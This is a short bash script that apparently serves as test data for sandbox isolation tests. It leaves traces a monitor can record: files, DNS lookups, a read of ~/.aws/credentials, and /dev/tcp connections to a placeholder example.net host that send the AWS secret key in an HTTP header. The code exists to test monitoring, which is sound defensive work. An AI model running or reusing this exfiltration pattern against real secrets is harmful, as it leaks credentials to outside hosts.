#!/bin/bash
# Test data of IsolationTests. Leaves a trail named after its marker ($1) in every channel the monitor and the
# sinkhole record: execs, files, DNS names, connections and the bytes sent (with the run's AWS secret canary), for
# $2 rounds one second apart, so that two runs side by side overlap in time. Prints the run's canary values so the
# test can tell whose they are.
marker=$1
rounds=$2
echo "$marker canaries: $AWS_ACCESS_KEY_ID $AWS_SECRET_ACCESS_KEY $GITHUB_TOKEN"
cat ~/.aws/credentials > /dev/null
for round in $(seq 1 "$rounds"); do
  echo "$marker $round" > "/tmp/$marker-file-$round"
  /usr/bin/touch "/tmp/$marker-touched-$round"
  getent hosts "$marker-$round.example.com" > /dev/null
  if exec 3<> "/dev/tcp/$marker.example.net/80"; then
    printf 'GET /%s-%s HTTP/1.0\r\nHost: %s.example.net\r\nX-Key: %s\r\n\r\n' "$marker" "$round" "$marker" "$AWS_SECRET_ACCESS_KEY" >&3
    exec 3>&-
  fi
  sleep 1
done
echo "$marker done"
